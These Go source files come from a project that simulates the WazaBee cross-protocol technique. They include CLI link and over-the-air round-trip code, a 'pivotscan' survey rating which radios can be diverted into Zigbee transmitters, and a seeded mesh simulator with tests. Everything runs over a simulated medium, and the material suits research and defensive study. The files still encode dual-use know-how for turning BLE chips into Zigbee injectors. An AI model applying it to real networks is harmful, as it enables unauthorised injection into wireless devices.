		if _, err := m.NewWazaBeeTransmitter(8); err == nil {
			txOK = "yes"
		}
		if _, err := m.NewWazaBeeReceiver(8); err == nil {
			rxOK = "yes"
		}
		fmt.Printf("%-24s %-8s %-9v %-9v %-9v %-8s %s\n",
			m.Name, mode, m.ArbitraryFrequency, m.CanDisableCRC, m.CanDisableWhitening, txOK, rxOK)
	}
	return nil
}

func convert(s string) error {
	pn, err := bitstream.ParseBits(s)
	if err != nil {
		return err
	}
	msk, err := core.ConvertPNSequence(pn)
	if err != nil {
		return err
	}
	fmt.Printf("PN : %s\nMSK: %s\n", pn, msk)
	return nil
}

// linkReport sounds the simulated link with test frames and prints each
// frame's LinkStats plus the per-channel aggregate — the one-shot
// diagnostics table the CI smoke target runs.
func linkReport(args []string) error {
	fs := flag.NewFlagSet("link", flag.ContinueOnError)
	chipName := fs.String("chip", "nrf52832", "BLE chip model (nrf52832, cc1352r1, nrf51822)")
	channel := fs.Int("channel", zigbee.DefaultChannel, "Zigbee channel (11-26)")
	frames := fs.Int("frames", 10, "number of sounding frames")
	snr := fs.Float64("snr", 12, "link SNR in dB")
	seed := fs.Int64("seed", 1, "random seed")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *frames < 1 {
		return fmt.Errorf("frame count %d < 1", *frames)
	}

	model, err := chipByName(*chipName)
	if err != nil {
		return err
	}
	if !model.CanTune(*channel) {
		return fmt.Errorf("%s cannot tune Zigbee channel %d", model.Name, *channel)
	}

	const sps = 8
	freq, err := ieee802154.ChannelFrequencyMHz(*channel)
	if err != nil {
		return err
	}
	medium, err := radio.NewMedium(float64(sps)*ieee802154.ChipRate, *seed)
	if err != nil {
		return err
	}
	stick := chip.RZUSBStick()
	zigbeePHY, err := stick.NewZigbeePHY(sps)
	if err != nil {
		return err
	}
	rx, err := model.NewWazaBeeReceiver(sps)
	if err != nil {
		return err
	}
	// Keep the sounding run's telemetry out of the process totals.
	reg := obs.NewRegistry()
	medium.Obs, zigbeePHY.Obs, rx.Obs = reg, reg, reg
	agg := link.NewAggregator(reg)

	fmt.Printf("sounding channel %d (%g MHz), %s receiving, %d frames at %g dB SNR\n\n",
		*channel, freq, model.Name, *frames, *snr)
	fmt.Printf("%-6s %-10s %9s %9s %10s %6s %9s %5s\n",
		"frame", "result", "rssi(dB)", "snr(dB)", "cfo(Hz)", "sync", "chip-err", "lqi")
	for i := 0; i < *frames; i++ {
		frame := ieee802154.NewDataFrame(uint8(i), zigbee.DefaultPAN, zigbee.DefaultCoordinator,
			zigbee.DefaultSensor, zigbee.SensorPayload(uint16(i)), false)
		psdu, err := frame.Encode()
		if err != nil {
			return err
		}
		ppdu, err := ieee802154.NewPPDU(psdu)
		if err != nil {
			return err
		}
		sig, err := zigbeePHY.Modulate(ppdu)
		if err != nil {
			return err
		}
		origin := time.Now() // the frame hits the air now
		capture, err := medium.Deliver(sig, freq, freq,
			radio.Link{SNRdB: *snr, LeadSamples: 40 * sps, LagSamples: 20 * sps})
		if err != nil {
			return err
		}
		_, st, _ := rx.ReceiveStatsAt(origin, capture)
		agg.Observe(*channel, st)
		fmt.Printf("%-6d %-10s %9.1f %9.1f %10.0f %6.2f %9.4f %5d\n",
			i, st.Result(), st.RSSIdBFS, st.SNRdB, st.CFOHz, st.SyncCorr, st.ChipErrorRate(), st.LQI)
	}
	fmt.Println("\nper-channel aggregate:")
	fmt.Print(agg.Table())
	hDemod := obs.LatencyHistogram(reg, "demod", "decoder", "wazabee")
	if n := hDemod.Count(); n > 0 {
		fmt.Printf("\ndecode latency (emit→verdict, %d frames): p50 %.3f ms  p99 %.3f ms\n",
			n, hDemod.Quantile(0.5)*1e3, hDemod.Quantile(0.99)*1e3)
	}
	return nil
}

func chipByName(name string) (chip.Model, error) {
	switch name {
	case "nrf52832":
		return chip.NRF52832(), nil
	case "cc1352r1":
		return chip.CC1352R1(), nil
	case "nrf51822":
		return chip.NRF51822(), nil
	default:
		return chip.Model{}, fmt.Errorf("unknown chip %q (nrf52832, cc1352r1, nrf51822)", name)
	}
}

func overAir(args []string, wazaTransmits bool) error {
	fs := flag.NewFlagSet("air", flag.ContinueOnError)
	chipName := fs.String("chip", "nrf52832", "BLE chip model (nrf52832, cc1352r1, nrf51822)")
	channel := fs.Int("channel", zigbee.DefaultChannel, "Zigbee channel (11-26)")
	payloadHex := fs.String("payload", "cafe0042", "MAC payload bytes (hex)")
	snr := fs.Float64("snr", 12, "link SNR in dB")
	seed := fs.Int64("seed", 1, "random seed")
	metrics := fs.Bool("metrics", false, "print the span trace and telemetry snapshot after the round trip")
	if err := fs.Parse(args); err != nil {
		return err
	}

	model, err := chipByName(*chipName)
	if err != nil {
		return err
	}
	if !model.CanTune(*channel) {
		return fmt.Errorf("%s cannot tune Zigbee channel %d", model.Name, *channel)
	}
	payload, err := hex.DecodeString(*payloadHex)
	if err != nil {
		return fmt.Errorf("payload: %w", err)
	}

	const sps = 8
	freq, err := ieee802154.ChannelFrequencyMHz(*channel)
	if err != nil {
		return err
	}
	medium, err := radio.NewMedium(float64(sps)*ieee802154.ChipRate, *seed)
	if err != nil {
		return err
	}

	// With -metrics, every pipeline component reports into a private
	// registry and span trace, printed once the round trip is done.
	var reg *obs.Registry
	var tr *obs.Trace
	if *metrics {
		reg = obs.NewRegistry()
		direction := "rx"
		if wazaTransmits {
			direction = "tx"
		}
		tr = obs.NewTrace(fmt.Sprintf("wazabee %s, %s, channel %d", direction, model.Name, *channel))
		medium.Obs, medium.Trace = reg, tr
	}

	frame := ieee802154.NewDataFrame(1, zigbee.DefaultPAN, zigbee.DefaultCoordinator, zigbee.DefaultSensor, payload, false)
	psdu, err := frame.Encode()
	if err != nil {
		return err
	}
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		return err
	}

	stick := chip.RZUSBStick()
	zigbeePHY, err := stick.NewZigbeePHY(sps)
	if err != nil {
		return err
	}
	zigbeePHY.Obs, zigbeePHY.Trace = reg, tr

	var sig dsp.IQ
	if wazaTransmits {
		tx, err := model.NewWazaBeeTransmitter(sps)
		if err != nil {
			return err
		}
		tx.Obs, tx.Trace = reg, tr
		sig, err = tx.Modulate(ppdu)
		if err != nil {
			return err
		}
		fmt.Printf("WazaBee TX on %s: %d-byte PSDU as %d GFSK bits on channel %d (%g MHz)\n",
			model.Name, len(psdu), len(sig)/sps, *channel, freq)
	} else {
		sig, err = zigbeePHY.Modulate(ppdu)
		if err != nil {
			return err
		}
		fmt.Printf("802.15.4 TX (RZUSBStick): %d-byte PSDU on channel %d (%g MHz)\n", len(psdu), *channel, freq)
	}

	capture, err := medium.Deliver(sig, freq, freq, radio.Link{SNRdB: *snr, LeadSamples: 40 * sps, LagSamples: 20 * sps})
	if err != nil {
		return err
	}

	// The failure case is precisely when the telemetry matters, so dump
	// it before surfacing a receive error.
	dumpMetrics := func() error {
		if !*metrics {
			return nil
		}
		fmt.Println("\n=== span trace ===")
		fmt.Print(tr.Tree())
		fmt.Println("\n=== telemetry snapshot (Prometheus text format) ===")
		return reg.WritePrometheus(os.Stdout)
	}

	var dem *ieee802154.Demodulated
	if wazaTransmits {
		dem, err = zigbeePHY.Demodulate(capture)
		if err != nil {
			dumpMetrics()
			return fmt.Errorf("802.15.4 RX: %w", err)
		}
		fmt.Println("802.15.4 RX (RZUSBStick): frame received")
	} else {
		rx, err := model.NewWazaBeeReceiver(sps)
		if err != nil {
			return err
		}
		rx.Obs, rx.Trace = reg, tr
		dem, err = rx.Receive(capture)
		if err != nil {
			dumpMetrics()
			return fmt.Errorf("WazaBee RX: %w", err)
		}
		fmt.Printf("WazaBee RX on %s: frame received\n", model.Name)
	}

	fmt.Printf("  PSDU: %x\n", dem.PPDU.PSDU)
	fmt.Printf("  FCS valid: %v, worst chip distance: %d, sync errors: %d\n",
		bitstream.CheckFCS(dem.PPDU.PSDU), dem.WorstChipDistance, dem.SyncErrors)
	rxFrame, err := ieee802154.ParseMACFrame(dem.PPDU.PSDU)
	if err != nil {
		return err
	}
	fmt.Printf("  MAC: %v seq=%d PAN=%#04x dest=%#04x src=%#04x payload=%x\n",
		rxFrame.Type, rxFrame.Seq, rxFrame.DestPAN, rxFrame.DestAddr, rxFrame.SrcAddr, rxFrame.Payload)
	return dumpMetrics()
}
