// Command pivotscan implements the prospective tool of the paper's
// conclusion: a modulation-similarity survey that anticipates which
// radios can be diverted into 802.15.4 transmitters. Scores near 1 mean
// "pivotable" (the WazaBee case); low scores mean rate or deviation
// mismatches eat the demodulation margin.
package main

import (
	"flag"
	"fmt"
	"os"

	"wazabee/internal/modsim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "pivotscan:", err)
		os.Exit(1)
	}
}

func run() error {
	sps := flag.Int("sps", 8, "samples per symbol")
	seed := flag.Int64("seed", 1, "random seed")
	flag.Parse()

	scores, err := modsim.SurveyAgainstOQPSK(*sps, *seed)
	if err != nil {
		return err
	}
	fmt.Printf("pivotability against %s (1.0 = full demodulation margin)\n\n", scores[0].Target)
	for _, s := range scores {
		bar := ""
		for i := 0; i < int(s.Score*40); i++ {
			bar += "#"
		}
		fmt.Printf("%-36s %.3f %s\n", s.Emulator, s.Score, bar)
	}
	fmt.Println("\nscores ≥ ~0.6 indicate a WazaBee-style pivot is practical")
	return nil
}
