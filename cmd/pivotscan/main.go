// Command pivotscan implements the prospective tool of the paper's
// conclusion: a modulation-similarity survey that anticipates which
// radios can be diverted into 802.15.4 transmitters. Scores near 1 mean
// "pivotable" (the WazaBee case); low scores mean rate or deviation
// mismatches eat the demodulation margin.
//
// By default the survey runs as a Monte-Carlo scan: -bursts random
// representative bursts per catalogue entry on the sharded runner, with
// the mean score and the 95% Wilson interval of the pivotable fraction.
// -bursts 1 reproduces the original single-burst survey.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"

	"wazabee/internal/experiment"
	"wazabee/internal/modsim"
	"wazabee/internal/obs"
	"wazabee/internal/radio"
)

func main() {
	obs.RegisterBuildInfo(nil)
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "pivotscan:", err)
		os.Exit(1)
	}
}

func run() error {
	sps := flag.Int("sps", 8, "samples per symbol")
	seed := flag.Int64("seed", 1, "random seed")
	bursts := flag.Int("bursts", 32, "random bursts per catalogue entry; 1 = the original single-burst survey")
	workers := flag.Int("workers", 0, "Monte-Carlo worker pool size; 0 = GOMAXPROCS (results are identical at any value)")
	checkpoint := flag.String("checkpoint", "", "checkpoint file; completed shards persist here and an identical invocation resumes from it")
	ciHalf := flag.Float64("ci", 0, "adaptive stop: end each entry once the 95% CI half-width of its pivotable rate reaches this target; 0 = fixed burst count")
	fidelity := flag.String("fidelity", "iq", "frame-delivery tier; the modulation-similarity survey has no calibrated shortcut, so only iq is accepted")
	flag.Parse()

	if fid, err := radio.ParseFidelity(*fidelity); err != nil {
		return err
	} else if fid != radio.FidelityIQ {
		return fmt.Errorf("-fidelity %s is not supported: pivotscan scores raw modulation similarity, which only exists at IQ fidelity", fid)
	}

	if *bursts == 1 && *checkpoint == "" && *ciHalf == 0 {
		scores, err := modsim.SurveyAgainstOQPSK(*sps, *seed)
		if err != nil {
			return err
		}
		fmt.Printf("pivotability against %s (1.0 = full demodulation margin)\n\n", scores[0].Target)
		for _, s := range scores {
			fmt.Printf("%-36s %.3f %s\n", s.Emulator, s.Score, bar(s.Score))
		}
		fmt.Println("\nscores ≥ ~0.6 indicate a WazaBee-style pivot is practical")
		return nil
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	cfg := experiment.DefaultPivotScanConfig()
	cfg.BurstsPerEntry = *bursts
	cfg.SamplesPerSymbol = *sps
	cfg.Seed = *seed
	cfg.Workers = *workers
	cfg.Checkpoint = *checkpoint
	cfg.CIHalfWidth = *ciHalf

	rows, err := experiment.RunPivotScan(ctx, cfg)
	if err != nil {
		return err
	}
	fmt.Printf("pivotability against %s (1.0 = full demodulation margin)\n", rows[0].Target)
	fmt.Printf("%d random bursts per entry; pivotable = score ≥ %.1f\n\n", *bursts, experiment.PivotableThreshold)
	for _, r := range rows {
		fmt.Printf("%-36s mean %.3f  pivotable %3.0f %% (95%% CI %3.0f–%3.0f %%, n=%d) %s\n",
			r.Emulator, r.MeanScore, 100*r.PivotableRate, 100*r.PivotableLo, 100*r.PivotableHi,
			r.Bursts, bar(r.MeanScore))
	}
	fmt.Println("\nscores ≥ ~0.6 indicate a WazaBee-style pivot is practical")
	return nil
}

func bar(score float64) string {
	b := ""
	for i := 0; i < int(score*40); i++ {
		b += "#"
	}
	return b
}
