package main

import (
	"bytes"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
)

// TestRunSmoke drives the CLI end-to-end on a small mesh and checks the
// human-readable summary carries the load-bearing numbers.
func TestRunSmoke(t *testing.T) {
	var out, errOut bytes.Buffer
	err := run([]string{"-topology", "star", "-nodes", "5", "-duration", "10s"}, &out, &errOut)
	if err != nil {
		t.Fatalf("run: %v (stderr: %s)", err, errOut.String())
	}
	text := out.String()
	for _, want := range []string{"topology star: 6 nodes", "joined 6/6", "digest sha256:"} {
		if !strings.Contains(text, want) {
			t.Errorf("output missing %q:\n%s", want, text)
		}
	}
}

// TestRunDeterministicDigest pins the CLI-level determinism claim: two
// invocations with identical flags print the identical digest, and a
// different seed prints a different one.
func TestRunDeterministicDigest(t *testing.T) {
	digest := func(seed string) string {
		var out, errOut bytes.Buffer
		if err := run([]string{"-topology", "tree", "-depth", "2", "-fanout", "4",
			"-seed", seed, "-duration", "15s"}, &out, &errOut); err != nil {
			t.Fatal(err)
		}
		m := regexp.MustCompile(`sha256:([0-9a-f]{64})`).FindStringSubmatch(out.String())
		if m == nil {
			t.Fatalf("no digest in output:\n%s", out.String())
		}
		return m[1]
	}
	a, b, c := digest("42"), digest("42"), digest("43")
	if a != b {
		t.Fatalf("same-seed digests differ: %s vs %s", a, b)
	}
	if a == c {
		t.Fatal("different seeds produced the same digest")
	}
}

func TestRunJSONSummary(t *testing.T) {
	var out, errOut bytes.Buffer
	if err := run([]string{"-topology", "random", "-nodes", "30", "-duration", "10s", "-json"}, &out, &errOut); err != nil {
		t.Fatal(err)
	}
	var sum summary
	if err := json.Unmarshal(out.Bytes(), &sum); err != nil {
		t.Fatalf("summary is not valid JSON: %v\n%s", err, out.String())
	}
	if sum.Nodes != 30 || sum.Stats.Frames == 0 || sum.Digest == "" {
		t.Fatalf("implausible summary: %+v", sum)
	}
}

func TestRunRejectsBadFlags(t *testing.T) {
	for _, args := range [][]string{
		{"-topology", "mesh"},
		{"-duration", "0s"},
	} {
		var out, errOut bytes.Buffer
		if err := run(args, &out, &errOut); err == nil {
			t.Errorf("run(%v) accepted invalid input", args)
		}
	}
}
