package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// TestRunSmoke drives the CLI end-to-end on a small mesh and checks the
// human-readable summary carries the load-bearing numbers.
func TestRunSmoke(t *testing.T) {
	var out, errOut bytes.Buffer
	err := run([]string{"-topology", "star", "-nodes", "5", "-duration", "10s"}, &out, &errOut)
	if err != nil {
		t.Fatalf("run: %v (stderr: %s)", err, errOut.String())
	}
	text := out.String()
	for _, want := range []string{"topology star: 6 nodes", "joined 6/6", "digest sha256:"} {
		if !strings.Contains(text, want) {
			t.Errorf("output missing %q:\n%s", want, text)
		}
	}
}

// TestRunDeterministicDigest pins the CLI-level determinism claim: two
// invocations with identical flags print the identical digest, and a
// different seed prints a different one.
func TestRunDeterministicDigest(t *testing.T) {
	digest := func(seed string) string {
		var out, errOut bytes.Buffer
		if err := run([]string{"-topology", "tree", "-depth", "2", "-fanout", "4",
			"-seed", seed, "-duration", "15s"}, &out, &errOut); err != nil {
			t.Fatal(err)
		}
		m := regexp.MustCompile(`sha256:([0-9a-f]{64})`).FindStringSubmatch(out.String())
		if m == nil {
			t.Fatalf("no digest in output:\n%s", out.String())
		}
		return m[1]
	}
	a, b, c := digest("42"), digest("42"), digest("43")
	if a != b {
		t.Fatalf("same-seed digests differ: %s vs %s", a, b)
	}
	if a == c {
		t.Fatal("different seeds produced the same digest")
	}
}

func TestRunJSONSummary(t *testing.T) {
	var out, errOut bytes.Buffer
	if err := run([]string{"-topology", "random", "-nodes", "30", "-duration", "10s", "-json"}, &out, &errOut); err != nil {
		t.Fatal(err)
	}
	var sum summary
	if err := json.Unmarshal(out.Bytes(), &sum); err != nil {
		t.Fatalf("summary is not valid JSON: %v\n%s", err, out.String())
	}
	if sum.Nodes != 30 || sum.Stats.Frames == 0 || sum.Digest == "" {
		t.Fatalf("implausible summary: %+v", sum)
	}
}

func TestRunRejectsBadFlags(t *testing.T) {
	for _, args := range [][]string{
		{"-topology", "mesh"},
		{"-duration", "0s"},
		{"-energy", "-chip", "esp32"},
		// Negative sizes must be flag errors, not generator panics.
		{"-topology", "star", "-nodes", "-3"},
		{"-topology", "tree", "-nodes", "-1"},
		{"-topology", "random", "-nodes", "-10"},
	} {
		var out, errOut bytes.Buffer
		if err := run(args, &out, &errOut); err == nil {
			t.Errorf("run(%v) accepted invalid input", args)
		}
	}
}

// TestRunTraceExport drives the observatory flags end-to-end: the trace
// file validates as Chrome trace-event JSON, is byte-identical across
// two same-seed runs, and the energy/node reports land in the output.
func TestRunTraceExport(t *testing.T) {
	dir := t.TempDir()
	runOnce := func(path string) (string, string) {
		var out, errOut bytes.Buffer
		err := run([]string{"-topology", "tree", "-depth", "2", "-fanout", "3",
			"-duration", "10s", "-trace", path, "-validate-trace",
			"-energy", "-node-report", "3"}, &out, &errOut)
		if err != nil {
			t.Fatalf("run: %v (stderr: %s)", err, errOut.String())
		}
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		return string(data), out.String()
	}
	traceA, textA := runOnce(filepath.Join(dir, "a.json"))
	traceB, _ := runOnce(filepath.Join(dir, "b.json"))
	if traceA != traceB {
		t.Fatal("same-seed traces differ byte-for-byte")
	}
	for _, want := range []string{"energy ", "µJ total", "cc2652", "sim observatory", "trace written to"} {
		if !strings.Contains(textA, want) {
			t.Errorf("output missing %q:\n%s", want, textA)
		}
	}
}

// TestRunJSONCarriesObservatory checks the machine-readable summary
// gains the heap high-water marks and, with telemetry on, energy totals.
func TestRunJSONCarriesObservatory(t *testing.T) {
	var out, errOut bytes.Buffer
	if err := run([]string{"-topology", "star", "-nodes", "5", "-duration", "10s",
		"-telemetry", "-json"}, &out, &errOut); err != nil {
		t.Fatal(err)
	}
	var sum summary
	if err := json.Unmarshal(out.Bytes(), &sum); err != nil {
		t.Fatalf("summary is not valid JSON: %v\n%s", err, out.String())
	}
	if sum.Heap.Executed == 0 || sum.Heap.MaxDepth == 0 {
		t.Fatalf("heap report empty: %+v", sum.Heap)
	}
	if sum.EnergyMicrojoules <= 0 || sum.Chip != "cc2652" {
		t.Fatalf("energy report missing: chip=%q energy=%v", sum.Chip, sum.EnergyMicrojoules)
	}
	if sum.Stats.Retries == 0 && sum.RadioSeconds["tx"] <= 0 {
		t.Fatalf("radio seconds missing: %+v", sum.RadioSeconds)
	}
}

// TestRunMetricsAddr checks -metrics-addr binds, announces its address
// and serves the run without disturbing it; a bad address errors out.
func TestRunMetricsAddr(t *testing.T) {
	var out, errOut bytes.Buffer
	if err := run([]string{"-topology", "star", "-nodes", "4", "-duration", "5s",
		"-telemetry", "-metrics-addr", "127.0.0.1:0"}, &out, &errOut); err != nil {
		t.Fatalf("run: %v (stderr: %s)", err, errOut.String())
	}
	if !regexp.MustCompile(`serving /metrics, /healthz, /debug/sim and /debug/pprof on 127\.0\.0\.1:\d+`).MatchString(errOut.String()) {
		t.Fatalf("no metrics-server announcement on stderr:\n%s", errOut.String())
	}

	var o, e bytes.Buffer
	if err := run([]string{"-duration", "1s", "-metrics-addr", "256.0.0.1:0"}, &o, &e); err == nil {
		t.Fatal("bad -metrics-addr accepted")
	}
}
