// wazabeesim runs the virtual-time discrete-event Zigbee mesh simulator
// from the command line: generate a seeded topology, simulate minutes of
// 802.15.4 traffic (association, beaconing, CSMA-CA data reporting,
// PAN-ID conflicts) in wall-clock seconds, and print the run's stats and
// capture digest. Two invocations with the same flags are byte-identical
// — the digest doubles as a regression oracle across machines.
//
//	wazabeesim -topology tree -depth 3 -fanout 10 -duration 60s
//	wazabeesim -topology star -nodes 100 -seed 7 -json
//	wazabeesim -topology random -nodes 500 -duration 2m -digest=false
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	_ "net/http/pprof"
	"os"
	"sort"
	"time"

	"wazabee/internal/obs"
	"wazabee/internal/radio"
	"wazabee/internal/zigbee/sim"
)

type config struct {
	topology string
	nodes    int
	depth    int
	fanout   int
	seed     int64
	duration time.Duration
	batch    time.Duration
	snrDB    float64
	beacon   time.Duration
	data     time.Duration
	fidelity string
	digest   bool
	jsonOut  bool
	progress bool

	// observatory flags
	telemetry     bool
	tracePath     string
	validateTrace bool
	energy        bool
	chip          string
	nodeReport    int
	metricsAddr   string
}

func main() {
	if err := run(os.Args[1:], os.Stdout, os.Stderr); err != nil {
		fmt.Fprintf(os.Stderr, "wazabeesim: %v\n", err)
		os.Exit(1)
	}
}

func registerFlags(fs *flag.FlagSet, cfg *config) {
	fs.StringVar(&cfg.topology, "topology", "tree", "mesh shape: star, tree or random")
	fs.IntVar(&cfg.nodes, "nodes", 100, "node count for star (children) and random topologies")
	fs.IntVar(&cfg.depth, "depth", 3, "tree depth (tree topology)")
	fs.IntVar(&cfg.fanout, "fanout", 10, "tree fanout (tree topology)")
	fs.Int64Var(&cfg.seed, "seed", 42, "run seed; same seed, same flags -> byte-identical run")
	fs.DurationVar(&cfg.duration, "duration", 60*time.Second, "virtual time to simulate")
	fs.DurationVar(&cfg.batch, "batch", time.Second, "virtual-time batch per scheduler advance (telemetry cadence; any value yields the identical run)")
	fs.Float64Var(&cfg.snrDB, "snr", 25, "per-link SNR in dB for the erasure model")
	fs.StringVar(&cfg.fidelity, "fidelity", "frame", "delivery tier: frame (one calibrated erasure draw per frame) or symbol (per-symbol chip-error draws through the real despreader)")
	fs.DurationVar(&cfg.beacon, "beacon-interval", 2*time.Second, "coordinator/router beacon cadence")
	fs.DurationVar(&cfg.data, "data-interval", 2*time.Second, "sensor reporting cadence")
	fs.BoolVar(&cfg.digest, "digest", true, "fold every capture into a sha256 digest and print it")
	fs.BoolVar(&cfg.jsonOut, "json", false, "emit the summary as JSON instead of text")
	fs.BoolVar(&cfg.progress, "progress", false, "log joined/frame counts each simulated second")
	fs.BoolVar(&cfg.telemetry, "telemetry", false, "enable the simulation observatory (per-node/per-link counters, energy accountant); implied by -trace, -energy and -node-report")
	fs.StringVar(&cfg.tracePath, "trace", "", "stream a Chrome trace-event JSON of the run here (load in ui.perfetto.dev); implies -telemetry")
	fs.BoolVar(&cfg.validateTrace, "validate-trace", false, "parse the written trace back and fail on malformed JSON (CI hook)")
	fs.BoolVar(&cfg.energy, "energy", false, "print the per-node radio energy report; implies -telemetry")
	fs.StringVar(&cfg.chip, "chip", "cc2652", "energy-accountant current-draw profile: cc2652 or nrf52840")
	fs.IntVar(&cfg.nodeReport, "node-report", 0, "print the top-N nodes by energy in the text report; implies -telemetry")
	fs.StringVar(&cfg.metricsAddr, "metrics-addr", "", "serve /metrics, /debug/sim and net/http/pprof on this address during the run (empty disables)")
}

// buildTopology resolves the topology flags into a node list.
func buildTopology(cfg config) (sim.Topology, error) {
	if cfg.nodes < 0 {
		return sim.Topology{}, fmt.Errorf("negative -nodes %d", cfg.nodes)
	}
	switch cfg.topology {
	case "star":
		return sim.Star(cfg.nodes), nil
	case "tree":
		return sim.Tree(cfg.depth, cfg.fanout), nil
	case "random":
		return sim.Random(cfg.nodes, cfg.seed), nil
	default:
		return sim.Topology{}, fmt.Errorf("unknown topology %q (want star, tree or random)", cfg.topology)
	}
}

// heapReport is the scheduler's high-water marks in the run report.
type heapReport struct {
	MaxDepth int           `json:"max_depth"`
	Pending  int           `json:"pending"`
	Executed uint64        `json:"executed"`
	MaxLag   time.Duration `json:"max_lag_ns"`
}

// summary is the machine-readable run report.
type summary struct {
	Topology     string        `json:"topology"`
	Nodes        int           `json:"nodes"`
	Coordinators int           `json:"coordinators"`
	Routers      int           `json:"routers"`
	EndDevices   int           `json:"end_devices"`
	Seed         int64         `json:"seed"`
	VirtualTime  time.Duration `json:"virtual_ns"`
	WallTime     time.Duration `json:"wall_ns"`
	Speedup      float64       `json:"speedup"`
	Stats        sim.Stats     `json:"stats"`
	Digest       string        `json:"digest,omitempty"`
	DigestFrames uint64        `json:"digest_frames,omitempty"`
	MaxEventLag  time.Duration `json:"max_event_lag_ns"`
	Heap         heapReport    `json:"heap"`

	// Energy totals, present when the observatory is enabled.
	Chip              string             `json:"chip,omitempty"`
	EnergyMicrojoules float64            `json:"energy_microjoules,omitempty"`
	RadioSeconds      map[string]float64 `json:"radio_seconds,omitempty"`
}

// validateTrace parses a written trace back and checks it is a
// well-formed Chrome trace-event document with at least one event — the
// CI smoke hook, so the pipeline needs no external JSON tooling.
func validateTrace(path string) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return fmt.Errorf("validate trace: %w", err)
	}
	var doc struct {
		DisplayTimeUnit string           `json:"displayTimeUnit"`
		TraceEvents     []map[string]any `json:"traceEvents"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		return fmt.Errorf("validate trace %s: %w", path, err)
	}
	if len(doc.TraceEvents) == 0 {
		return fmt.Errorf("validate trace %s: no trace events", path)
	}
	for i, ev := range doc.TraceEvents {
		if _, ok := ev["ph"].(string); !ok {
			return fmt.Errorf("validate trace %s: event %d missing phase", path, i)
		}
	}
	return nil
}

func run(args []string, out, errOut io.Writer) error {
	cfg := config{}
	fs := flag.NewFlagSet("wazabeesim", flag.ContinueOnError)
	fs.SetOutput(errOut)
	registerFlags(fs, &cfg)
	if err := fs.Parse(args); err != nil {
		return err
	}
	if cfg.duration <= 0 {
		return fmt.Errorf("non-positive -duration %v", cfg.duration)
	}
	if cfg.batch <= 0 {
		cfg.batch = cfg.duration
	}

	topo, err := buildTopology(cfg)
	if err != nil {
		return err
	}
	telemetryOn := cfg.telemetry || cfg.tracePath != "" || cfg.energy || cfg.nodeReport > 0

	var traceFile *os.File
	if cfg.tracePath != "" {
		traceFile, err = os.Create(cfg.tracePath)
		if err != nil {
			return fmt.Errorf("create -trace file: %w", err)
		}
		defer traceFile.Close()
	}

	reg := obs.NewRegistry()
	flight := obs.NewFlight(256)
	health := obs.NewHealth(reg)
	fid, err := radio.ParseFidelity(cfg.fidelity)
	if err != nil {
		return err
	}
	if fid == radio.FidelityIQ {
		return fmt.Errorf("-fidelity iq is not supported by the mesh simulator (use symbol or frame)")
	}

	simCfg := sim.Config{
		Seed:           cfg.seed,
		SNRdB:          cfg.snrDB,
		Fidelity:       fid,
		BeaconInterval: cfg.beacon,
		DataInterval:   cfg.data,
		Registry:       reg,
		Flight:         flight,
		Telemetry:      telemetryOn,
		Chip:           cfg.chip,
	}
	if traceFile != nil {
		simCfg.TraceWriter = traceFile
	}
	nw, err := sim.New(topo, simCfg)
	if err != nil {
		return err
	}
	nw.RegisterHealth(health)

	if cfg.metricsAddr != "" {
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		obs.RegisterBuildInfo(reg)
		obs.StartRuntimeSampler(ctx, reg, 0)
		ln, err := net.Listen("tcp", cfg.metricsAddr)
		if err != nil {
			return fmt.Errorf("metrics listener: %w", err)
		}
		mux := http.NewServeMux()
		mux.Handle("/metrics", reg)
		mux.Handle("/healthz", health.Healthz())
		mux.Handle("/debug/sim", nw.DebugHandler())
		mux.Handle("/debug/pprof/", http.DefaultServeMux)
		srv := &http.Server{Handler: mux}
		go func() {
			if err := srv.Serve(ln); err != nil && !errors.Is(err, http.ErrServerClosed) {
				fmt.Fprintf(errOut, "wazabeesim: metrics server: %v\n", err)
			}
		}()
		defer srv.Close()
		fmt.Fprintf(errOut, "wazabeesim: serving /metrics, /healthz, /debug/sim and /debug/pprof on %s\n", ln.Addr())
	}

	var rec *sim.DigestRecorder
	if cfg.digest {
		rec = sim.NewDigestRecorder()
		channels := map[int]bool{}
		for _, n := range topo.Nodes {
			if !channels[n.Channel] {
				channels[n.Channel] = true
				nw.Tap(n.Channel, rec.Record)
			}
		}
	}

	start := time.Now()
	for at := cfg.batch; at < cfg.duration; at += cfg.batch {
		nw.Run(at)
		if cfg.progress {
			s := nw.Stats()
			fmt.Fprintf(errOut, "t=%v joined=%d/%d frames=%d collisions=%d\n",
				s.VirtualTime, s.Joined, s.Nodes, s.Frames, s.Collisions)
		}
	}
	nw.Run(cfg.duration)
	wall := time.Since(start)

	if err := nw.CloseTrace(); err != nil {
		return fmt.Errorf("trace: %w", err)
	}
	if traceFile != nil {
		if err := traceFile.Close(); err != nil {
			return fmt.Errorf("trace: %w", err)
		}
		if cfg.validateTrace {
			if err := validateTrace(cfg.tracePath); err != nil {
				return err
			}
		}
	}

	stats := nw.Stats()
	sched := nw.Scheduler()
	coord, routers, endDev := topo.Counts()
	sum := summary{
		Topology:     cfg.topology,
		Nodes:        stats.Nodes,
		Coordinators: coord,
		Routers:      routers,
		EndDevices:   endDev,
		Seed:         cfg.seed,
		VirtualTime:  stats.VirtualTime,
		WallTime:     wall,
		Speedup:      stats.VirtualTime.Seconds() / wall.Seconds(),
		Stats:        stats,
		MaxEventLag:  sched.MaxLag(),
		Heap: heapReport{
			MaxDepth: sched.MaxDepth(),
			Pending:  sched.Len(),
			Executed: sched.Executed(),
			MaxLag:   sched.MaxLag(),
		},
	}
	if rec != nil {
		sum.Digest = rec.Sum()
		sum.DigestFrames = rec.Frames()
	}
	var snap *sim.Snapshot
